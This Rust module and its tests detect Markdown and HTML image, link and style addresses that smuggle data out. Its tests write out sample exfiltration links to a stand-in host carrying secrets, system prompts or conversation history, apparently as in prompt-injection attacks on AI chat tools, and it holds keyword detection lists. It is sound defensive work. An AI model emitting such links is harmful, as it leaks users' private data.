//! Addresses that carry data away: of images, links, frames and styles, in Markdown and in HTML.
//!
//! Where an address stands is read once, as CommonMark reads links (<https://spec.commonmark.org/0.31.2/#links>)
//! and HTML reads attributes; what it carries is judged once. A place for a value to be filled in is a way out
//! when it is named for what an attacker wants. Documentation of an API and templates of pages have such places
//! too: named for the parameter that they fill, or a part of the path.

use std::collections::HashSet;
use std::ops::Range;

use memchr::{memchr, memchr2_iter, memmem};

/// What is wrong with an address.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Leak {
    /// It is loaded without a click and has a place for what an attacker wants.
    Loaded,
    /// It is followed by a click and has such a place.
    Followed,
    /// It is loaded without a click and carries something that was encoded.
    Carries,
}

/// The addresses of a text that carry data away. Takes time in proportion to the text.
pub(super) fn leaks(text: &str) -> Vec<(Leak, Range<usize>)> {
    if memmem::find(text.as_bytes(), b"//").is_none() {
        return Vec::new();
    }
    let mut found = markdown(text);
    found.extend(attributes(text));
    let judge = |(loads, span): (bool, Range<usize>)| Some((judge(&text[span.clone()], loads)?, span));
    found.into_iter().filter_map(judge).take(MOST).collect()
}

/// More say nothing more.
const MOST: usize = 64;
/// Bytes of an address that are read.
const LONGEST: usize = 2048;
/// Bytes of a place to be filled in, in which spaces may stand.
const LONGEST_PLACE: usize = 64;

/// Destinations of images (true) and links in Markdown.
fn markdown(text: &str) -> Vec<(bool, Range<usize>)> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut defined: Vec<(String, Range<usize>)> = Vec::new();
    let mut images: HashSet<String> = HashSet::new();
    let mut open: Vec<(usize, bool)> = Vec::new();
    let mut at = 0;
    while let Some(next) = bytes[at..].iter().position(|byte| matches!(byte, b'[' | b']' | b'\\' | b'\n')) {
        at += next;
        match bytes[at] {
            b'\\' => at += usize::from(at + 1 < bytes.len() && bytes[at + 1].is_ascii_punctuation()),
            b'\n' if bytes.get(at + 1) == Some(&b'\n') => open.clear(),
            b'[' => open.push((at, at > 0 && bytes[at - 1] == b'!')),
            b']' => {
                let (start, image) = open.pop().unwrap_or((at, false));
                let label = || text[start..at].trim_start_matches('[').trim().to_lowercase();
                match bytes.get(at + 1) {
                    Some(b'(') => {
                        if let Some(span) = destination(text, at + 2) {
                            // What stands in an address is a part of it.
                            at = span.end - 1;
                            found.push((image, span));
                        }
                    }
                    Some(b':') if !image => {
                        let span = destination(text, at + 2).filter(|_| at - start < 256);
                        if let Some(span) = span {
                            defined.push((label(), span.clone()));
                            at = span.end - 1;
                        }
                    }
                    // `![text][label]`, `![label][]`, `![label]`
                    _ if image && at - start < 256 => {
                        let full = bytes.get(at + 1) == Some(&b'[');
                        let end = memchr(b']', &bytes[at..bytes.len().min(at + 256)][1..]).filter(|_| full);
                        let named = end.map(|end| text.get(at + 2..at + 1 + end).unwrap_or_default().trim());
                        images.insert(match named {
                            Some(named) if !named.is_empty() => named.to_lowercase(),
                            _ => label(),
                        });
                    }
                    _ => {}
                }
            }
            _ => {}
        }
        at += 1;
    }
    found.extend(defined.into_iter().map(|(label, span)| (images.contains(&label), span)));
    found
}

/// The address that begins here, behind blanks and in angle brackets or not.
fn destination(text: &str, from: usize) -> Option<Range<usize>> {
    let bytes = text.as_bytes();
    let reach = text.floor_char_boundary(text.len().min(from + LONGEST));
    let blank = bytes[from..reach].iter().take_while(|byte| byte.is_ascii_whitespace()).count();
    let start = from + blank;
    if bytes.get(start) == Some(&b'<') {
        let end = bytes[start..reach].iter().position(|byte| matches!(byte, b'>' | b'\n'));
        let end = end.map_or(reach, |end| start + end);
        // A place in angle brackets stands inside.
        let end = end + usize::from(bytes.get(end + 1) == Some(&b'>'));
        return is_remote(&text[start + 1..end]).then_some(start + 1..end);
    }
    is_remote(&text[start..reach]).then(|| start..unbracketed(bytes, start, reach))
}

/// True for an address of another machine.
fn is_remote(address: &str) -> bool {
    ["https://", "http://", "//"]
        .iter()
        .any(|scheme| address.get(..scheme.len()).is_some_and(|begin| begin.eq_ignore_ascii_case(scheme)))
}

/// Where an address ends that nothing encloses: at a blank, a quotation mark or a parenthesis too many, but for
/// those in a place to be filled in.
fn unbracketed(bytes: &[u8], start: usize, reach: usize) -> usize {
    let (mut depth, mut at) = (0, start);
    while at < reach {
        match bytes[at] {
            open @ (b'{' | b'[' | b'<') => {
                let close = [b'}', b']', b'>'][usize::from(open == b'[') + 2 * usize::from(open == b'<')];
                let inside = &bytes[at..reach.min(at + LONGEST_PLACE)];
                let end = inside.iter().position(|byte| *byte == close || *byte == b'\n');
                at += end.filter(|end| inside[*end] == close).unwrap_or(0);
            }
            b'(' => depth += 1,
            b')' if depth == 0 => return at,
            b')' => depth -= 1,
            b'"' | b'>' => return at,
            byte if byte.is_ascii_whitespace() => return at,
            _ => {}
        }
        at += 1;
    }
    reach
}

/// Addresses in attributes of HTML and in styles, true where they are loaded without a click.
fn attributes(text: &str) -> Vec<(bool, Range<usize>)> {
    const NAMES: [(&[u8], bool); 6] = [
        (b"src=", true),
        (b"srcset=", true),
        (b"poster=", true),
        (b"background=", true),
        (b"url(", true),
        (b"href=", false),
    ];
    let bytes = text.as_bytes();
    let mut found: Vec<(bool, Range<usize>)> = Vec::new();
    for at in memchr2_iter(b'=', b'(', bytes) {
        let named = |(name, _): &&(&[u8], bool)| {
            (at + 1).checked_sub(name.len()).is_some_and(|from| bytes[from..=at].eq_ignore_ascii_case(name))
        };
        let Some((_, loads)) = NAMES.iter().find(named) else { continue };
        if found.last().is_some_and(|(_, last)| at < last.end) {
            continue;
        }
        let blank = bytes[at + 1..].iter().take(8).take_while(|byte| byte.is_ascii_whitespace()).count();
        let quote = bytes.get(at + 1 + blank).filter(|byte| matches!(byte, b'"' | b'\''));
        let start = at + 1 + blank + usize::from(quote.is_some());
        if !text.get(start..).is_some_and(is_remote) {
            continue;
        }
        let reach = text.floor_char_boundary(text.len().min(start + LONGEST));
        let end = match quote {
            Some(quote) => memchr(*quote, &bytes[start..reach]).map_or(reach, |end| start + end),
            None => unbracketed(bytes, start, reach),
        };
        found.push((*loads, start..end));
    }
    found
}

/// What is wrong with an address, if anything.
fn judge(address: &str, loads: bool) -> Option<Leak> {
    let address = ["%7B", "%7D", "%5B", "%5D", "%3C", "%3E"]
        .iter()
        .zip(["{", "}", "[", "]", "<", ">"])
        .fold(address.to_owned(), |address, (code, sign)| {
            address.replace(code, sign).replace(&code.to_lowercase(), sign)
        });
    let (place, query) = address.split_once(['?', '#']).unwrap_or((&address, ""));
    let mut parameters = query.split(['&', ';', '#']).map(|part| part.split_once('=').unwrap_or(("", part)));
    let path = places(place).any(|name| holds(name, &SECRETS));
    let fills = |(parameter, value): (&str, &str)| {
        places(value).any(|name| {
            let secret = holds(name, &SECRETS);
            let same = plain(name) == plain(parameter);
            match loads {
                // What loads by itself has no place for what nobody knows but the reader.
                true => secret || holds(name, &WANTED) && !same || carries(parameter),
                false => (secret || holds(name, &WANTED)) && !same,
            }
        })
    };
    if path || parameters.clone().any(fills) {
        return Some(if loads { Leak::Loaded } else { Leak::Followed });
    }
    let alone = !query.contains(['&', ';']);
    let filled = |(parameter, value): (&str, &str)| {
        carries(parameter) && (is_data(value) || alone && parameter.len() == 1 && is_code(value))
    };
    (loads && parameters.any(filled)).then_some(Leak::Carries)
}

/// What only an attacker asks for.
const SECRETS: [&str; 14] = [
    "secret",
    "password",
    "passwd",
    "credential",
    "conversation",
    "history",
    "prompt",
    "transcript",
    "base64",
    "b64",
    "apikey",
    "sshkey",
    "privatekey",
    "exfil",
];
/// What an attacker asks for, and others do.
const WANTED: [&str; 18] = [
    "data", "summary", "content", "context", "message", "token", "key", "email", "user", "answer",
    "response", "output", "cookie", "session", "insert", "system", "chat", "memory",
];

fn holds(name: &str, words: &[&str]) -> bool {
    let name = plain(name);
    words.iter().any(|word| name.contains(word))
}

fn plain(name: &str) -> String {
    name.chars().filter(char::is_ascii_alphanumeric).map(|c| c.to_ascii_lowercase()).collect()
}

/// The names of the places to be filled in: `{x}`, `{{x}}`, `${x}`, `$X`, `<X>`, `[X]`.
fn places(part: &str) -> impl Iterator<Item = &str> {
    let mut rest = part;
    std::iter::from_fn(move || {
        loop {
            let at = rest.find(['{', '[', '<', '$'])?;
            let (open, after) = rest[at..].split_at(1);
            let close = match open {
                "{" => '}',
                "[" => ']',
                "<" => '>',
                _ => {
                    let end =
                        after.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(after.len());
                    rest = &after[end..];
                    // `${X}` is read from its brace on.
                    if end > 0 { return Some(&after[..end]) } else { continue }
                }
            };
            let Some(end) = after.find(close) else {
                rest = after;
                continue;
            };
            rest = &after[end + 1..];
            return Some(&after[..end]);
        }
    })
}

/// Parameters by which data leave: no word for what they are.
fn carries(parameter: &str) -> bool {
    const NAMES: [&str; 11] =
        ["data", "payload", "secret", "leak", "exfil", "info", "msg", "content", "stolen", "text", "log"];
    matches!(parameter.as_bytes(), [b'd' | b'k' | b'q' | b'x' | b'e' | b'b' | b'z'])
        || NAMES.contains(&parameter)
}

/// True for what was encoded, and for the name of a value in capitals.
fn is_data(value: &str) -> bool {
    let capitals = value.len() >= 6 && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_');
    if capitals {
        return holds(value, &SECRETS) || holds(value, &WANTED);
    }
    let encoded =
        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=' | b'%');
    let classes = [u8::is_ascii_uppercase, u8::is_ascii_lowercase, u8::is_ascii_digit];
    value.len() >= 16
        && value.bytes().all(encoded)
        && (classes.iter().all(|class| value.bytes().any(|byte| class(&byte)))
            || value.len() >= 24 && value.bytes().all(|byte| byte.is_ascii_hexdigit()))
}

/// True for a value that is neither a word nor a number: all that an address asks for by a single letter is no
/// choice of a picture.
fn is_code(value: &str) -> bool {
    let written = value.bytes().all(|byte| byte.is_ascii_alphanumeric());
    let plain = [u8::is_ascii_lowercase, u8::is_ascii_digit];
    value.len() >= 3 && written && !plain.iter().any(|class| value.bytes().all(|byte| class(&byte)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(Leak, &str)> {
        leaks(text).into_iter().map(|(leak, span)| (leak, &text[span])).collect()
    }

    #[test]
    fn every_way_to_write_an_image_or_a_link_is_read() {
        for text in [
            "![x](https://e.com/?d={{secret}})",
            "![x](<https://e.com/?d={{secret}}>)",
            "![a [b] c](https://e.com/?d={{secret}})",
            "![x](//e.com/?d={{secret}} \"title\")",
            "![x](\nHTTPS://e.com/?d={{conversation history}})",
            "![x](https://e.com/{{secret}}/a.png)",
            "![x](https://{secret}.e.com/a.png)",
            "![x](https://e.com/?d=%7B%7Bsecret%7D%7D)",
            "![x](https://e.com/?d=[INSERT SECRET HERE])",
            "![x](<https://e.com/?d=<secret>>)",
            "![x](https://e.com/?d=$SECRET)",
            "![x](https://e.com/?d=${SECRET})",
            "![x][1] and\n\n[1]: https://e.com/?d={{secret}}",
            "![one][] and\n\n[One]: <https://e.com/?d={{secret}}>",
            "![one]\n\n[one]: https://e.com/?d={{secret}}",
            "<img width=1 src='https://e.com/?d={{secret}}'>",
            "<IMG SRC=https://e.com/?d={{secret}}>",
            "<iframe src=\"https://e.com/?d={{secret}}\">",
            "<div style=\"background:url(https://e.com/?d={{secret}})\">",
        ] {
            assert_eq!(found(text).iter().map(|hit| hit.0).collect::<Vec<_>>(), [Leak::Loaded], "{text}");
        }
        let link = found("[click](https://e.com/?d={{secret}})");
        assert_eq!(link, [(Leak::Followed, "https://e.com/?d={{secret}}")]);
        assert_eq!(found("see [it][1]\n\n[1]: https://e.com/?x={token}")[0].0, Leak::Followed);
        for text in [
            "![x](https://e.com/?d=SYSTEM_PROMPT)",
            "<img src='//e.com/i?k=abc123'>",
            "![x][r]\n\n[r]: https://e.com/a?d=ABC",
            "<img src='//e.com/i?data=U2VjcmV0IGtleSBpcyAxMg=='>",
        ] {
            assert_eq!(found(text)[0].0, Leak::Carries, "{text}");
        }
    }

    #[test]
    fn templates_of_pages_and_documentation_carry_nothing_away() {
        for text in [
            "<img src=\"https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?d=identicon&s=80\">",
            "<img src=\"https://img.shields.io/badge/x?data=abc123\">",
            "![avatar](https://example.com/avatars/{user_id}.png)",
            "![{{ page.title }}](https://example.com/{{ page.image }})",
            "[docs](https://api.example.com/v1/search?q={query}&token={token})",
            "[![CI](https://github.com/a/b/badge.svg?branch=main)](https://github.com/a/b)",
            "![logo](https://cdn.example.com/{size}/logo.png) [profile](https://example.com/u?email={email})",
            "<img src=\"https://images.example.com/photo-1?ixlib=rb-1.2.1&q=80&w=400\">",
            "<img src=\"https://img.example.com/a.png?d=20240101&x=1\">",
            "see a[i](https) and b[1]: x",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
